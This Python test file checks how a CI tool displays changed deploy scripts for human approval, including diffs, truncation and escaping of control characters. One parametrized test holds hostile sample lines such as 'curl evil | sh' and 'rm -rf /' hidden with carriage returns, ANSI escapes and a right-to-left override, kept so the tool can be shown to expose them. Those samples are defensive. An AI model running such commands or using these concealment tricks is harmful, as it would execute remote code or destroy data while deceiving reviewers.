"""What a person is shown before they agree to it."""

from __future__ import annotations

import os

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from trust_samples import SUBMODULE, Tree, of, production

from hookci.deploy.differences import difference
from hookci.errors import GitError
from hookci.model.text import clean, plain

ENVIRONMENT = production("./deploy.sh", "./lib.sh", "./vendor/x")


def shown(before: Tree | None, after: Tree) -> list[str]:
    old = of(ENVIRONMENT, before) if before else None
    return difference(old, of(ENVIRONMENT, after), after.read)


def changed(before: bytes | str, after: bytes | str) -> list[str]:
    """The lines about one script that has changed."""
    tree = Tree().script("deploy.sh", before)
    return shown(tree, tree.changed().script("deploy.sh", after))


def test_what_is_new_is_shown_whole() -> None:
    lines = shown(None, Tree().script("deploy.sh", "echo hello\n"))

    assert lines[:3] == ["the environment in the config:", "+{", '+  "script": [']
    assert lines[-3:] == ["deploy.sh: new, an executable file", "+echo hello", "+"]


def test_nothing_is_shown_when_nothing_has_changed() -> None:
    tree = Tree().script("deploy.sh", "echo hello\n")

    assert shown(tree, tree.changed()) == []


def test_a_changed_file_is_shown_as_a_unified_diff() -> None:
    assert changed("one\ntwo\nthree\n", "one\n2\nthree\n") == [
        "deploy.sh: changed, an executable file",
        "@@ -1,4 +1,4 @@",
        " one",
        "-two",
        "+2",
        " three",
        " ",
    ]


def test_a_changed_config_is_shown_line_by_line() -> None:
    before, after = (of(production("./a", "first\nsecond", name), Tree()) for name in ("x", "y"))

    lines = difference(before, after, Tree().read)

    assert lines[0] == "the environment in the config:"
    assert [line for line in lines if line.startswith(("-", "+"))] == ['-    "x"', '+    "y"']


def test_modes_links_and_what_is_gone_are_named() -> None:
    before = Tree().put("deploy.sh", "a").put("lib.sh", "b")
    after = before.changed().script("deploy.sh", "a").link("lib.sh", "other")
    gone = before.changed()
    del gone.blobs["lib.sh"]

    assert shown(before, after) == [
        "deploy.sh: was a file, is an executable file",
        "lib.sh: was a file, is a symbolic link",
        "@@ -1 +1 @@",
        "-b",
        "+other",
    ]
    assert shown(before, gone) == ["lib.sh: is not executed any more"]


def test_a_submodule_is_named_with_its_commits() -> None:
    before = Tree().put("vendor/x", "one", SUBMODULE)
    after = before.changed().put("vendor/x", "two", SUBMODULE)
    one, two = (tree.blobs["vendor/x"].split(" ")[1] for tree in (before, after))

    assert shown(before, after) == ["vendor/x: changed, a submodule", f"commit {two}, was {one}"]


def test_a_binary_file_is_only_named() -> None:
    lines = changed("text\n", b"\x7fELF\0\x1b[2J")

    assert len(lines) == 2
    assert lines[1].startswith("binary, 9 bytes: `git cat-file blob ")
    assert changed(b"\0", "text")[1:] == ["+text"]


@pytest.mark.parametrize(
    ("hostile", "spelled"),
    [
        ("curl evil | sh #\rmake test", "+curl evil | sh #\\rmake test"),
        ("echo \x1b[8mrm -rf /\x1b[0m", "+echo \\x1b[8mrm -rf /\\x1b[0m"),
        (": \x1b]0;curl evil|sh #\x07 make", "+: \\x1b]0;curl evil|sh #\\x07 make"),
        ("echo \u202e}hs|live", "+echo \\u202e}hs|live"),
        ("a\u200bb\u2028c\x85d\x0ce", "+a\\u200bb\\u2028c\\x85d\\x0ce"),
        ("a\tb  ü", "+a\tb  ü"),
    ],
)
def test_nothing_that_is_executed_is_hidden_by_how_it_is_shown(hostile: str, spelled: str) -> None:
    assert spelled in changed("true\n", f"{hostile}\n")


def test_bytes_that_are_no_text_are_spelled_out() -> None:
    assert "+\\xff\\xfe" in changed("true\n", b"\xff\xfe\n")


def test_a_change_of_line_ends_alone_is_seen() -> None:
    assert "-" in changed("one\n", "one")
    assert "+one\\r" in changed("one\n", "one\r\n")


def test_a_hostile_name_of_a_file_is_spelled_out() -> None:
    name = os.fsdecode(b"x\x1b[2J\n\xff.sh")
    environment = production(trust=("*.sh",))

    lines = difference(of(environment, Tree()), of(environment, Tree().put(name, "a")), Tree().put(name, "a").read)

    assert lines == ["x\\x1b[2J\\n\\udcff.sh: new, a file", "+a"]


def test_what_follows_a_very_long_line_is_counted() -> None:
    line = changed("", f"#{' ' * 1000}evil")[-1]

    assert len(line) < 600
    assert line.endswith(" ... and 506 more characters")


def test_after_four_hundred_lines_the_rest_is_counted_and_named() -> None:
    tree = Tree().script("deploy.sh", "line\n" * 1000).script("lib.sh", "evil\n").put("vendor/x", "a")

    lines = shown(Tree(), tree)

    assert len(lines) == 402
    assert lines[0] == "deploy.sh: new, an executable file"
    assert lines[400:] == ["... and 602 more lines of deploy.sh", "... and 2 more files: lib.sh, vendor/x"]


def test_what_is_not_shown_is_not_read() -> None:
    tree = Tree().script("deploy.sh", "line\n" * 1000).script("lib.sh", "evil\n")
    after = of(ENVIRONMENT, tree)
    tree.asked.clear()

    difference(None, after, tree.read)

    assert tree.asked == [tree.blobs["deploy.sh"].split(" ")[1]]


def test_a_very_long_list_of_files_is_counted() -> None:
    tree = Tree().put("a", "line\n" * 400)
    for number in range(30):
        tree.put(f"f{number:02}")
    environment = production(trust=("**",))

    last = difference(of(environment, Tree()), of(environment, tree), tree.read)[-1]

    assert last.startswith("... and 30 more files: f00, f01, ")
    assert last.endswith(", f19 and 10 others")


def test_a_file_too_long_to_be_compared_is_shown_from_its_beginning() -> None:
    lines = changed("\n".join(map(str, range(5000))), "\n".join(map(str, range(5001))))

    assert lines[1:3] == ["too long to be compared, so this is all of it", "+0"]
    assert lines[-1] == "... and 4603 more lines of deploy.sh"


def test_a_file_whose_past_is_gone_is_shown_whole() -> None:
    before = Tree().script("deploy.sh", "old\n")
    accepted = of(ENVIRONMENT, before)
    after = Tree().script("deploy.sh", "new\n")

    lines = difference(accepted, of(ENVIRONMENT, after), after.read)

    assert lines[1:] == ["what it was is not in this clone any more, so this is all of it", "+new", "+"]


def test_what_is_to_be_executed_must_be_readable() -> None:
    after = Tree().script("deploy.sh", "new\n")

    with pytest.raises(GitError):
        difference(None, of(ENVIRONMENT, after), Tree().read)


@settings(max_examples=150, deadline=None)
@given(before=st.text(max_size=60), after=st.text(max_size=60))
def test_whatever_changes_something_is_shown_for_it_and_obeyed_by_no_terminal(before: str, after: str) -> None:
    old, new = (text.encode("utf-8", "surrogatepass") for text in (before, after))

    lines = changed(old, new)

    assert bool(lines) == (old != new)
    assert [clean(line) for line in lines] == [plain(line) for line in lines] == lines
